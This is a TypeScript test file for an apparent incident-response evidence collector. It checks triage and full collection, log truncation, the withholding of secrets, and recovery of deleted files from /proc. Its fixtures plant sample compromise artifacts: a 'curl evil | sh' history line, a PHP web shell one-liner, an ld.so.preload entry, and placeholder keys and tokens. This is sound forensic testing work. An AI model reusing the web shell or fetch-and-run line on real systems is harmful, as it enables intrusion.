// SPDX-License-Identifier: Apache-2.0
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { copyFileSync, mkdirSync, openSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { after, before, test } from 'node:test';
import {
  collect,
  coverageOf,
  fileAt,
  type Soil,
  soils,
  type Taken,
  temporaryFolder,
} from './collector-run.ts';

const folder = temporaryFolder();
const root = join(folder.path, 'root');
const claims = Buffer.from('{"sub":"system:serviceaccount:shop:cart"}').toString('base64url');
const TOKEN = `eyJhbGciOiJub25lIn0.${claims}.c2lnbmF0dXJl`;
const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n';
const LOG_BYTES_MAX = 131_072;
const LOG = Buffer.alloc(400_000, 'log line\n');
const SECRETS = 'run/secrets/kubernetes.io/serviceaccount';
let all: readonly Soil[] = [];

const FILES: Readonly<Record<string, string | Buffer>> = {
  'etc/passwd': "root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/srv/ann's home:/bin/sh\n",
  'etc/ld.so.preload': '/tmp/evil.so\n',
  'etc/cron.d/job': '* * * * * root id\n',
  "srv/ann's home/.bash_history": 'curl evil | sh\n',
  "srv/ann's home/.ssh/authorized_keys": 'ssh-ed25519 AAAA ann\n',
  "srv/ann's home/.ssh/id_ed25519": KEY,
  'root/.ash_history': 'id\n',
  'tmp/dropped': 'ELF',
  'var/log/app.log': LOG,
  'var/www/new.php': '<?php system($_GET[0]);',
  'var/www/page.html': '<p>',
  'usr/bin/program': 'program',
  [`${SECRETS}/..2026/token`]: TOKEN,
  [`${SECRETS}/..2026/namespace`]: 'shop',
};

before(() => {
  const tools = join(folder.path, 'tools');
  mkdirSync(tools);
  all = soils(tools);
  for (const [path, content] of Object.entries(FILES)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), content);
  }
  symlinkSync('/run', join(root, 'var/run'));
  symlinkSync('..2026/token', join(root, SECRETS, 'token'));
});

after(() => folder[Symbol.dispose]());

const take = (soil: Soil | undefined, profile: 'triage' | 'full'): Promise<Taken[]> => {
  assert.ok(soil);
  return collect(soil, { profile, root, changedSinceSeconds: 0, logFileBytesMax: LOG_BYTES_MAX });
};

function assertDecisiveFiles(records: readonly Taken[]): void {
  const taken = Object.keys(FILES).filter(
    (path) => !/program|page|token|id_ed|app\.log/.test(path),
  );
  for (const path of taken) {
    const file = fileAt(records, join(root, path));
    assert.equal(file?.data?.toString(), FILES[path], path);
  }
  assert.equal(coverageOf(records, `${root}/etc/ld.so.preload`)?.state, 'got');
  assert.equal(coverageOf(records, `${root}/etc/shadow`)?.state, 'absent');
  assert.equal(coverageOf(records, `${root}/var/run/secrets`)?.reason, 'behind-link');
}

for (const index of [0, 2, 3]) {
  test(`${['dash', '', 'busybox ash', 'busybox tools'][index]}: triage takes what decides`, async () => {
    const records = await take(all[index], 'triage');
    assertDecisiveFiles(records);
    assert.equal(fileAt(records, join(root, 'var/www/page.html')), undefined);
    assert.equal(fileAt(records, join(root, 'usr/bin/program')), undefined);
    const log = fileAt(records, join(root, 'var/log/app.log'));
    assert.ok(log?.data && log.offset > 0 && log.data.length <= LOG_BYTES_MAX + 65_536);
    assert.ok(log.data.equals(LOG.subarray(log.offset)));
    const kinds = records.map((record) => record.kind);
    assert.ok(kinds.indexOf('text') < kinds.indexOf('file'), 'volatile comes first');
  });
}

test('private keys and tokens keep their bodies; a token gives its claims and digest', async () => {
  const records = await take(all[0], 'full');
  assertDecisiveFiles(records);
  const key = fileAt(records, join(root, "srv/ann's home/.ssh/id_ed25519"));
  assert.equal(key?.withheld, 'private-key');
  assert.equal(key?.content, undefined);
  const token = fileAt(records, join(root, SECRETS, '..2026/token'));
  assert.equal(token?.withheld, 'token');
  const text = records.find(({ kind, ...record }) => {
    return kind === 'text' && 'name' in record && record.name.toString().startsWith('claims:');
  });
  const digest = createHash('sha256').update(TOKEN).digest('hex');
  assert.match(
    text?.data?.toString() ?? '',
    new RegExp(`sha256=${digest}\n.*\nclaims=${claims}\n`),
  );
  const bytes = Buffer.concat(records.map(({ data }) => data ?? Buffer.of())).toString('latin1');
  assert.doesNotMatch(bytes, /c2lnbmF0dXJl|b3BlbnNzaC1rZXk/);
});

test('the full profile takes every file once, whole', async () => {
  const records = await take(all[3], 'full');
  assert.equal(fileAt(records, join(root, 'usr/bin/program'))?.data?.toString(), 'program');
  assert.equal(fileAt(records, join(root, 'var/www/page.html'))?.data?.toString(), '<p>');
  assert.ok(fileAt(records, join(root, 'var/log/app.log'))?.data?.equals(LOG));
  const passwd = records.filter((record) => {
    return record.kind === 'file' && record.path.toString() === join(root, 'etc/passwd');
  });
  assert.equal(passwd.length, 1);
});

test('an executable and a file that were deleted while open are taken from /proc', async () => {
  const program = join(folder.path, 'sleeper');
  copyFileSync('/bin/busybox', program);
  const dropped = join(folder.path, 'dropped');
  writeFileSync(dropped, 'kept open');
  const fd = openSync(dropped, 'r');
  await using stack = new AsyncDisposableStack();
  const child = spawn(program, ['sleep', '60'], {
    stdio: ['ignore', 'ignore', 'ignore', fd],
    argv0: 'busybox',
  });
  stack.defer(async () => {
    child.kill('SIGKILL');
    await once(child, 'exit');
  });
  await once(child, 'spawn');
  rmSync(program);
  rmSync(dropped);
  const records = await take(all[0], 'triage');
  const exe = fileAt(records, `/proc/${child.pid}/exe`);
  assert.equal(exe?.link?.toString(), `${program} (deleted)`);
  assert.ok((exe?.data?.length ?? 0) > 100_000);
  assert.equal(fileAt(records, `/proc/${child.pid}/fd/3`)?.data?.toString(), 'kept open');
});
